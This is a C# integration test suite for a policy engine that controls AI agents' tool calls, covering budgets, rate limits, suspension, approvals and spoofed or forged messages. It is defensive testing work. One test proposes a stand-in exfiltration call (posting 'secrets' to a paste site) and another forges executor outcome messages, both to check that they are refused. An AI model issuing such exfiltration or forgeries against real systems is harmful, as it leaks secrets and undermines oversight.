using System.Text.Json;
using AgentBus.Client;
using AgentBus.Contracts;
using AgentBus.IntegrationTests.Infrastructure;
using AgentBus.Policy;
using AgentBus.Policy.State;
using AgentBus.Operations.Broker;
using AgentBus.ServiceDefaults.Messaging;
using MassTransit;
using Microsoft.Extensions.DependencyInjection;

namespace AgentBus.IntegrationTests.Policy;

/// <summary>The policy engine end to end, with two policy instances on one database.</summary>
[Collection(PolicyCollection.Name)]
public sealed class PolicyPipelineTests(PolicyFixture fixture) : IAsyncLifetime
{
    public Task InitializeAsync() => fixture.ResetAllAsync();

    public Task DisposeAsync() => Task.CompletedTask;

    object Ticket(string title) => new { method = "POST", url = new Uri(fixture.SandboxUrl, "/ticketing/tickets").ToString(), body = new { title } };

    object Refund(decimal amount) => new { method = "POST", url = new Uri(fixture.SandboxUrl, "/payments/refunds").ToString(), body = new { orderId = "ORD-7", amountUsd = amount } };

    [Fact]
    public async Task Two_policy_instances_and_50_concurrent_proposals_against_a_budget_for_20_allow_exactly_20()
    {
        Assert.Equal(2, fixture.PolicyInstances.Count);
        await using var agent = await fixture.ConnectAgentAsync("budget-bot");

        var actions = await Task.WhenAll(Enumerable.Range(0, 50).Select(i => agent.ProposeAsync("ticketing", Ticket($"load {i}"), "run-budget")));
        using var deadline = new CancellationTokenSource(TimeSpan.FromSeconds(60));
        var results = await Task.WhenAll(actions.Select(id => agent.WaitAsync(id, deadline.Token)));

        Assert.Equal(20, results.Count(r => r.Decision.Decision == Decision.Allowed));
        Assert.Equal(30, results.Count(r => r.Decision.ReasonCode == ReasonCodes.BudgetExceeded));
        Assert.All(results.Where(r => r.Decision.Decision == Decision.Denied), r => Assert.Equal("budgets.agents.budget-bot.perRunUsd", r.Decision.RuleId));
        Assert.Equal(20, results.Count(r => r.Succeeded is not null));
        Assert.Equal(20, fixture.SandboxCalls.Calls.Count);

        // Every reservation settles at the executor's actual cost, and nothing stays reserved.
        await Eventually.True(async () => await fixture.CountAsync(
            "SELECT count(*) FROM cost_ledger WHERE agent_id = 'budget-bot' AND status = 'settled'") == 20, "20 settled charges");
        var usage = (await fixture.QueryAsync<(decimal Reserved, decimal Spent)>(
            "SELECT reserved_usd, spent_usd FROM budget_usage WHERE agent_id = 'budget-bot' AND period = 'run:run-budget'")).Single();
        Assert.Equal((0m, 0.04m), usage);
    }

    [Fact]
    public async Task A_rate_limit_holds_across_policy_instances()
    {
        // A sliding minute: stay clear of the boundary so the previous minute cannot count.
        if (DateTime.UtcNow.Second > 45)
            await Task.Delay(TimeSpan.FromSeconds(61 - DateTime.UtcNow.Second));
        await Eventually.True(async () => await ConsumersAsync(WireNames.PolicyProposalsQueue) == 2, "two policy instances consuming proposals");
        await using var agent = await fixture.ConnectAgentAsync("rate-bot");

        var actions = await Task.WhenAll(Enumerable.Range(0, 15).Select(i => agent.ProposeAsync("ticketing", Ticket($"burst {i}"), $"run-rate-{i}")));
        using var deadline = new CancellationTokenSource(TimeSpan.FromSeconds(60));
        var results = await Task.WhenAll(actions.Select(id => agent.WaitAsync(id, deadline.Token)));

        Assert.Equal(7, results.Count(r => r.Decision.Decision == Decision.Allowed));
        var limited = results.Where(r => r.Decision.Decision == Decision.Denied).ToList();
        Assert.Equal(8, limited.Count);
        Assert.All(limited, r => Assert.Equal((ReasonCodes.RateLimited, "limits.agents.rate-bot.callsPerMinute"), (r.Decision.ReasonCode, r.Decision.RuleId)));
    }

    /// <summary>From the management API's statistics, which lag by a few seconds.</summary>
    async Task<long> ConsumersAsync(string queue)
    {
        using var http = fixture.AdminHttp();
        var info = JsonSerializer.Deserialize<JsonElement>(await http.GetStringAsync($"api/queues/{Uri.EscapeDataString(fixture.VirtualHost)}/{queue}"));
        return info.TryGetProperty("consumers", out var consumers) ? consumers.GetInt64() : -1;
    }

    [Fact]
    public async Task Hot_reload_good_then_bad_then_good()
    {
        await using var intern = await fixture.ConnectAgentAsync("intern-bot");
        var before = await intern.RunAsync("payments", Refund(5), "run-reload", TimeSpan.FromSeconds(20));
        Assert.Equal(ReasonCodes.NoGrant, before.Decision.ReasonCode);

        // Good: a grant appears without a restart.
        var granted = PolicyFixture.PolicyYaml + "\n  # reloaded\n";
        granted = granted.Replace("  - { id: budget-tickets,", "  - { id: intern-refunds, agent: intern-bot, tool: payments }\n  - { id: budget-tickets,", StringComparison.Ordinal);
        await fixture.UsePolicyAsync(granted);
        var v2 = fixture.PolicyInstances[0].GetRequiredService<PolicyStore>().Current!.Version;
        var allowed = await intern.RunAsync("payments", Refund(5), "run-reload", TimeSpan.FromSeconds(20));
        Assert.Equal(Decision.Allowed, allowed.Decision.Decision);
        var recorded = await fixture.RecordedDecisionAsync(allowed.ActionId);
        Assert.Equal(("allowed", "intern-refunds", v2), (recorded.Decision, recorded.RuleId, recorded.PolicyVersion));

        // Bad: refused with file and line on every instance; the last good version stays in force.
        await PolicyFiles.WriteAsync(fixture.PolicyFile, granted.Replace("tool: payments }", "tool: payments, colour: red }", StringComparison.Ordinal));
        // The file is rewritten in place: a poll can read it half written ("the policy file is empty")
        // and the next poll reads the whole file, so wait for the refusal of what was written.
        await Eventually.True(() => Task.FromResult(fixture.PolicyInstances.All(p =>
                p.GetRequiredService<PolicyStore>().LastErrors is [var first, ..] && first.Contains("colour", StringComparison.Ordinal))),
            "every instance refused the broken file", TimeSpan.FromSeconds(10));
        foreach (var instance in fixture.PolicyInstances)
        {
            var store = instance.GetRequiredService<PolicyStore>();
            Assert.Equal(v2, store.Current!.Version);
            Assert.Matches(@"policy\.yaml:\d+: .*colour", store.LastErrors[0]);
        }
        var stillAllowed = await intern.RunAsync("payments", Refund(6), "run-reload", TimeSpan.FromSeconds(20));
        Assert.Equal(Decision.Allowed, stillAllowed.Decision.Decision);
        Assert.Equal(v2, (await fixture.RecordedDecisionAsync(stillAllowed.ActionId)).PolicyVersion);

        // Good again: the grant is gone.
        await fixture.UsePolicyAsync(PolicyFixture.PolicyYaml);
        Assert.All(fixture.PolicyInstances, p => Assert.Empty(p.GetRequiredService<PolicyStore>().LastErrors));
        var after = await intern.RunAsync("payments", Refund(7), "run-reload", TimeSpan.FromSeconds(20));
        Assert.Equal(ReasonCodes.NoGrant, after.Decision.ReasonCode);
        Assert.NotEqual(v2, after.Decision.PolicyVersion);
    }

    [Fact]
    public async Task Suspending_an_agent_reaches_every_instance_within_a_second_and_executors_refuse_its_queued_commands()
    {
        await fixture.StopExecutorAsync("ticketing");
        await using var support = await fixture.ConnectAgentAsync("support-bot");
        var queued = new List<string>();
        for (var i = 0; i < 3; i++)
            queued.Add(await support.ProposeAsync("ticketing", Ticket($"queued {i}"), "run-suspend"));
        await Eventually.True(async () => await fixture.QueueDepthAsync(WireNames.ToolQueue("ticketing")) == 3, "three commands queued for ticketing");

        Assert.Equal(0, await fixture.OperatorAsync("agents", "suspend", "support-bot", "alice", "runaway refunds"));
        await Eventually.True(() => Task.FromResult(fixture.PolicyInstances.All(p => p.GetRequiredService<SuspensionCache>().Current.Agents.Contains("support-bot"))),
            "every policy instance sees the suspension", TimeSpan.FromSeconds(1));

        var denied = await support.RunAsync("ticketing", Ticket("after suspend"), "run-suspend", TimeSpan.FromSeconds(20));
        Assert.Equal((ReasonCodes.AgentSuspended, "kill-switch"), (denied.Decision.ReasonCode, denied.Decision.RuleId));

        await fixture.StartExecutorAsync("ticketing");
        using var deadline = new CancellationTokenSource(TimeSpan.FromSeconds(30));
        var outcomes = await Task.WhenAll(queued.Select(id => support.WaitAsync(id, deadline.Token)));
        Assert.All(outcomes, o => Assert.Equal((ReasonCodes.AgentSuspended, false), (o.Failed!.ErrorCode, o.Failed.OutcomeUnknown)));
        Assert.Empty(fixture.SandboxCalls.Calls);

        // Reservations of the refused commands are released; the operator's action is in the audit.
        await Eventually.True(async () => await fixture.CountAsync(
            "SELECT count(*) FROM cost_ledger WHERE run_id = 'run-suspend' AND status = 'released'") == 3, "three released reservations");
        await Eventually.True(async () => await fixture.CountAsync("""
            SELECT count(*) FROM audit_events WHERE event_type = 'OperatorActionTaken' AND outcome = 'agent.suspend'
              AND agent_id = 'support-bot' AND payload::jsonb->>'operator' = 'alice' AND payload::jsonb->>'reason' = 'runaway refunds'
            """) == 1, "the suspension in the audit with its operator");

        Assert.Equal(0, await fixture.OperatorAsync("agents", "resume", "support-bot", "alice"));
        await Eventually.True(() => Task.FromResult(fixture.PolicyInstances.All(p => !p.GetRequiredService<SuspensionCache>().Current.Agents.Contains("support-bot"))),
            "every policy instance sees the resume", TimeSpan.FromSeconds(1));
        var resumed = await support.RunAsync("ticketing", Ticket("after resume"), "run-suspend-2", TimeSpan.FromSeconds(20));
        Assert.NotNull(resumed.Succeeded);
        await Eventually.True(async () => await fixture.CountAsync(
            "SELECT count(*) FROM audit_events WHERE event_type = 'OperatorActionTaken' AND outcome = 'agent.resume'") == 1, "the resume in the audit");
    }

    [Fact]
    public async Task A_command_refused_while_its_agent_was_suspended_never_runs_after_a_resume_and_a_replay_of_the_same_message()
    {
        await fixture.StopExecutorAsync("ticketing");
        await using var support = await fixture.ConnectAgentAsync("support-bot");
        var actionId = await support.ProposeAsync("ticketing", Ticket("queued, then suspended"), "run-refused-final");
        var queue = WireNames.ToolQueue("ticketing");
        await Eventually.True(async () => await fixture.QueueDepthAsync(queue) == 1, "the signed command queued for ticketing");
        var signedCommand = await CapturedMessage.PeekAsync(fixture, queue);

        Assert.Equal(0, await fixture.OperatorAsync("agents", "suspend", "support-bot", "alice", "hold everything"));
        await fixture.StartExecutorAsync("ticketing");
        using var deadline = new CancellationTokenSource(TimeSpan.FromSeconds(30));
        var refused = (await support.WaitAsync(actionId, deadline.Token)).Failed!;
        Assert.Equal((ReasonCodes.AgentSuspended, true, false), (refused.ErrorCode, refused.Refused, refused.OutcomeUnknown));

        // Resumed, and the very same signed message delivered again (an operator's replay; a redelivery
        // after a crash takes the same path): it is still within its authorization's lifetime.
        Assert.Equal(0, await fixture.OperatorAsync("agents", "resume", "support-bot", "alice"));
        await Eventually.True(() => Task.FromResult(fixture.PolicyInstances.All(p => !p.GetRequiredService<SuspensionCache>().Current.Agents.Contains("support-bot"))),
            "every policy instance sees the resume", TimeSpan.FromSeconds(1));
        await signedCommand.RepublishAsync(fixture, AgentBus.Operations.Broker.BrokerTopology.PolicyUser, WireNames.ExecuteToolExchange, "ticketing");
        var later = await support.RunAsync("ticketing", Ticket("after resume"), "run-refused-final-2", TimeSpan.FromSeconds(20));
        Assert.NotNull(later.Succeeded);
        await Eventually.True(async () => await fixture.QueueDepthAsync(queue) == 0, "the replayed command consumed", TimeSpan.FromSeconds(20));
        await Task.Delay(1000);

        Assert.DoesNotContain(fixture.SandboxCalls.Calls, c => c.ActionId == actionId);
        Assert.Equal(["refused"], await fixture.QueryAsync<string>("SELECT state FROM execution_claims WHERE action_id = @actionId", new { actionId }));
        // One audited outcome, the refusal, under an id that is not the outcome's.
        var audited = await fixture.QueryAsync<(string EventType, string? ReasonCode, Guid EventId)>(
            "SELECT event_type, reason_code, event_id FROM audit_events WHERE action_id = @actionId AND event_type IN ('ActionSucceeded', 'ActionFailed')",
            new { actionId });
        var only = Assert.Single(audited);
        Assert.Equal(("ActionFailed", (string?)ReasonCodes.AgentSuspended), (only.EventType, only.ReasonCode));
        Assert.Equal(MessageIds.ActionRefusal("support-bot", actionId, "ticketing"), only.EventId);
        // Its reservation is released, once, and nothing was spent.
        await Eventually.True(async () => await fixture.CountAsync(
            "SELECT count(*) FROM cost_ledger WHERE action_id = @actionId AND status = 'released' AND amount_usd = 0", new { actionId }) == 1,
            "the reservation released");
        Assert.Equal(1, await fixture.CountAsync("SELECT count(*) FROM cost_ledger WHERE action_id = @actionId", new { actionId }));
    }

    [Fact]
    public async Task An_outcome_forged_by_another_tools_executor_neither_ends_nor_releases_the_action_nor_takes_its_place_in_the_audit_or_at_the_agent()
    {
        await fixture.StopExecutorAsync("payments");
        await using var support = await fixture.ConnectAgentAsync("support-bot");
        var actionId = await support.ProposeAsync("payments", Refund(5), "run-forged-outcome");
        await Eventually.True(async () => await fixture.QueueDepthAsync(WireNames.ToolQueue("payments")) == 1, "the refund queued for payments");

        // A foothold in the ticketing executor: its own broker user (RabbitMQ checks user_id), claiming
        // the refund failed, once naming payments and once naming its own tool, each under the id the
        // real outcome would have if it named that tool.
        await using (var connection = await fixture.ConnectionFactoryFor(AgentBus.Operations.Broker.BrokerTopology.ExecutorUser("ticketing")).CreateConnectionAsync())
        await using (var channel = await connection.CreateChannelAsync(new RabbitMQ.Client.CreateChannelOptions(true, true)))
        {
            foreach (var tool in new[] { "payments", "ticketing" })
            {
                var forged = new ActionFailed(actionId, "run-forged-outcome", "support-bot", tool, "http_500", "forged", false, 1, 1, DateTimeOffset.UtcNow);
                var properties = new RabbitMQ.Client.BasicProperties
                {
                    ContentType = WireNames.ContentType, Type = nameof(ActionFailed),
                    MessageId = MessageIds.ActionOutcome("support-bot", actionId, tool).ToString(),
                    UserId = AgentBus.Operations.Broker.BrokerTopology.ExecutorUser("ticketing"), DeliveryMode = RabbitMQ.Client.DeliveryModes.Persistent,
                    Headers = new Dictionary<string, object?> { ["MT-MessageType"] = "urn:message:AgentBus.Contracts:" + nameof(ActionFailed) },
                };
                using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(10));
                await channel.BasicPublishAsync(WireNames.ActionFailedExchange, "support-bot", false, properties,
                    JsonSerializer.SerializeToUtf8Bytes(forged, AgentBus.ServiceDefaults.Messaging.WireJson.Options), timeout.Token);
            }
        }
        await Eventually.True(async () => await fixture.CountAsync(
            "SELECT count(*) FROM audit_events WHERE action_id = @actionId AND event_type = 'ActionFailed'", new { actionId }) == 2,
            "both forgeries in the audit");
        // The one naming payments is kept as what it is, under an id of its own.
        Assert.Equal(["rejected:untrusted_sender:agentbus-executor-ticketing"], await fixture.QueryAsync<string>(
            "SELECT outcome || ':' || reason_code || ':' || actor FROM audit_events WHERE action_id = @actionId AND tool = 'payments' AND event_type = 'ActionFailed'",
            new { actionId }));
        Assert.Equal(["reserved"], await fixture.QueryAsync<string>("SELECT status FROM cost_ledger WHERE action_id = @actionId", new { actionId }));

        await fixture.StartExecutorAsync("payments");
        // The agent heard both forgeries first, and waits on, for the real outcome.
        using (var wait = new CancellationTokenSource(TimeSpan.FromSeconds(20)))
            Assert.NotNull((await support.WaitAsync(actionId, wait.Token)).Succeeded);
        await Eventually.True(async () => await fixture.CountAsync(
            "SELECT count(*) FROM cost_ledger WHERE action_id = @actionId AND status = 'settled' AND amount_usd = 0.01", new { actionId }) == 1,
            "the refund's cost settled from its real outcome");
        Assert.Equal(["succeeded"], await fixture.QueryAsync<string>("SELECT outcome FROM policy_actions WHERE action_id = @actionId", new { actionId }));
        Assert.Single(fixture.SandboxCalls.Calls, c => c.ActionId == actionId);
        // Neither forgery took the real outcome's place in the audit.
        await Eventually.True(async () => await fixture.CountAsync(
                "SELECT count(*) FROM audit_events WHERE action_id = @actionId AND event_type = 'ActionSucceeded' AND event_id = @id",
                new { actionId, id = MessageIds.ActionOutcome("support-bot", actionId, "payments") }) == 1,
            "the refund's real outcome in the audit");
    }

    [Fact]
    public async Task Suspending_a_tool_denies_it_for_every_agent()
    {
        Assert.Equal(0, await fixture.OperatorAsync("tools", "suspend", "ticketing", "bob"));
        await using var support = await fixture.ConnectAgentAsync("support-bot");

        var denied = await support.RunAsync("ticketing", Ticket("tool suspended"), "run-tool-suspend", TimeSpan.FromSeconds(20));
        Assert.Equal(ReasonCodes.ToolSuspended, denied.Decision.ReasonCode);
        var otherTool = await support.RunAsync("payments", Refund(5), "run-tool-suspend", TimeSpan.FromSeconds(20));
        Assert.NotNull(otherTool.Succeeded);
        await Eventually.True(async () => await fixture.CountAsync(
            "SELECT count(*) FROM audit_events WHERE outcome = 'tool.suspend' AND tool = 'ticketing' AND payload::jsonb->>'operator' = 'bob'") == 1,
            "the tool suspension in the audit");
    }

    [Fact]
    public async Task The_same_idempotency_key_runs_once_and_the_repeat_gets_the_first_decision_and_outcome()
    {
        await using var support = await fixture.ConnectAgentAsync("support-bot");

        var first = await support.RunAsync("ticketing", Ticket("once"), "run-idem", TimeSpan.FromSeconds(20), idempotencyKey: "ticket-42");
        var second = await support.RunAsync("ticketing", Ticket("once"), "run-idem", TimeSpan.FromSeconds(20), idempotencyKey: "ticket-42");

        Assert.NotEqual(first.ActionId, second.ActionId);
        Assert.Equal((Decision.Allowed, ReasonCodes.DuplicateAction), (second.Decision.Decision, second.Decision.ReasonCode));
        Assert.Contains(first.ActionId, second.Decision.Reason);
        Assert.Equal(first.Succeeded!.ExternalReference, second.Succeeded!.ExternalReference);
        Assert.Equal(0m, second.Succeeded.CostUsd);
        Assert.Single(fixture.SandboxCalls.Calls);
    }

    [Fact]
    public async Task The_same_run_tool_and_arguments_without_a_key_is_a_duplicate_even_while_the_first_is_still_running()
    {
        await fixture.StopExecutorAsync("ticketing");
        await using var support = await fixture.ConnectAgentAsync("support-bot");
        var firstId = await support.ProposeAsync("ticketing", Ticket("same"), "run-dup");
        await Eventually.True(async () => await fixture.CountAsync("SELECT count(*) FROM policy_actions WHERE action_id = @firstId", new { firstId }) == 1,
            "the first decision");
        var secondId = await support.ProposeAsync("ticketing", Ticket("same"), "run-dup");
        await Eventually.True(async () => await fixture.CountAsync("SELECT count(*) FROM policy_actions WHERE duplicate_of = @firstId", new { firstId }) == 1,
            "the duplicate recorded against the first");

        await fixture.StartExecutorAsync("ticketing");
        using var deadline = new CancellationTokenSource(TimeSpan.FromSeconds(30));
        var first = await support.WaitAsync(firstId, deadline.Token);
        var second = await support.WaitAsync(secondId, deadline.Token);

        Assert.Equal(first.Succeeded!.ExternalReference, second.Succeeded!.ExternalReference);
        Assert.Single(fixture.SandboxCalls.Calls);
    }

    [Fact]
    public async Task An_action_that_needs_approval_is_not_executed_and_holds_its_reservation()
    {
        await using var agent = await RawAgent.ConnectAsync(fixture, "support-bot");
        var actionId = Guid.CreateVersion7().ToString();

        var messageId = await agent.PublishAsync(RawAgent.Proposal("support-bot", "payments", Refund(250), actionId));

        // The agent hears approval_required once the approval saga holds the approval; this fixture runs
        // no approvals service, so the test announces it as the saga would.
        await Eventually.True(async () => await fixture.CountAsync("SELECT count(*) FROM policy_approvals WHERE action_id = @actionId", new { actionId }) == 1,
            "the approval requested");
        var saga = await fixture.StartHostAsync(BrokerTopology.ApprovalsUser, [], b => { b.Services.AddHealthChecks(); b.AddAgentBusMessaging(BrokerTopology.ApprovalsUser, _ => { }); },
            new() { ["RabbitMq:PublishTimeout"] = "00:00:10" });
        try
        {
            using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(15));
            await saga.Services.GetRequiredService<IBus>().Publish(new ApprovalOpened(MessageIds.Approval("support-bot", actionId), actionId, "run-raw",
                "support-bot", "payments", "large-refund", DateTimeOffset.UtcNow.AddHours(1), DateTimeOffset.UtcNow), timeout.Token);
        }
        finally
        {
            await fixture.StopHostAsync(saga);
        }
        var reply = await agent.DecisionForAsync(messageId);

        Assert.Equal("approval_required", reply.GetProperty("decision").GetString());
        Assert.Equal(("large-refund", ReasonCodes.ApprovalRequired), (reply.GetProperty("ruleId").GetString(), reply.GetProperty("reasonCode").GetString()));
        Assert.Contains("payments-approvers", reply.GetProperty("reason").GetString());
        var stored = (await fixture.QueryAsync<string>("SELECT approval::text FROM policy_actions WHERE action_id = @actionId", new { actionId })).Single();
        var approval = JsonSerializer.Deserialize<JsonElement>(stored);
        Assert.Equal(("payments-approvers", 2), (approval.GetProperty("Group").GetString(), approval.GetProperty("Approvers").GetInt32()));
        Assert.Equal(1, await fixture.CountAsync("SELECT count(*) FROM cost_ledger WHERE action_id = @actionId AND status = 'reserved'", new { actionId }));

        // A later allowed payment has run through the same FIFO queue: nothing for the first was sent.
        await using var support = await fixture.ConnectAgentAsync("support-bot");
        Assert.NotNull((await support.RunAsync("payments", Refund(5), "run-approval", TimeSpan.FromSeconds(20))).Succeeded);
        Assert.DoesNotContain(fixture.SandboxCalls.Calls, c => c.ActionId == actionId);
        Assert.Equal(0, await fixture.QueueDepthAsync(WireNames.ToolQueue("payments")));
    }

    [Fact]
    public async Task A_spoofed_or_anonymous_proposal_is_denied_and_does_not_occupy_the_real_agents_action_id()
    {
        await using var intern = await RawAgent.ConnectAsync(fixture, "intern-bot");
        var actionId = Guid.CreateVersion7().ToString();
        var spoofed = RawAgent.Proposal("support-bot", "ticketing", Ticket("spoof"), actionId);

        var mismatch = await intern.DecisionForAsync(await intern.PublishAsync(spoofed));
        Assert.Equal(ReasonCodes.IdentityMismatch, mismatch.GetProperty("reasonCode").GetString());
        await intern.PublishAsync(spoofed, userId: null);
        await Eventually.True(async () => await fixture.CountAsync(
            "SELECT count(*) FROM audit_events WHERE action_id = @actionId AND reason_code = 'identity_missing'", new { actionId }) == 1,
            "the identity_missing decision in the audit");
        Assert.Equal(0, await fixture.CountAsync("SELECT count(*) FROM policy_actions WHERE action_id = @actionId", new { actionId }));

        await using var support = await RawAgent.ConnectAsync(fixture, "support-bot");
        await support.PublishAsync(spoofed);
        await Eventually.True(async () => await fixture.CountAsync(
            "SELECT count(*) FROM audit_events WHERE action_id = @actionId AND event_type = 'ActionDecided' AND outcome = 'allowed' AND agent_id = 'support-bot'",
            new { actionId }) == 1, "the real agent's action allowed in the audit");
    }

    [Fact]
    public async Task Reported_inference_spend_counts_against_the_same_budget()
    {
        await using var agent = await fixture.ConnectAgentAsync("budget-bot");
        var reportId = await agent.ReportSpendAsync(0.039m, "inference", "run-spend", "8,800 tokens");
        await agent.ReportSpendAsync(0.039m, "inference", "run-spend", "the same report again", reportId);

        await Eventually.True(async () => await fixture.CountAsync(
            "SELECT count(*) FROM cost_ledger WHERE source = 'inference' AND report_id = @reportId AND amount_usd = 0.039", new { reportId }) == 1,
            "the report in the ledger");
        var denied = await agent.RunAsync("ticketing", Ticket("over budget"), "run-spend", TimeSpan.FromSeconds(20));
        Assert.Equal(ReasonCodes.BudgetExceeded, denied.Decision.ReasonCode);

        var spent = (await fixture.QueryAsync<decimal>("SELECT spent_usd FROM budget_usage WHERE agent_id = 'budget-bot' AND period = 'run:run-spend'")).Single();
        Assert.Equal(0.039m, spent);
    }

    [Fact]
    public async Task A_destination_off_the_policy_is_denied_before_any_executor_sees_it()
    {
        await using var support = await fixture.ConnectAgentAsync("support-bot");
        var result = await support.RunAsync("ticketing",
            new { method = "POST", url = "https://paste.example.com/upload", body = new { secrets = "all" } }, "run-exfil", TimeSpan.FromSeconds(20));

        Assert.Equal((ReasonCodes.DestinationNotAllowed, "tools/ticketing/destinations"), (result.Decision.ReasonCode, result.Decision.RuleId));
        Assert.Null(result.Failed);
        Assert.Empty(fixture.SandboxCalls.Calls);
    }
}
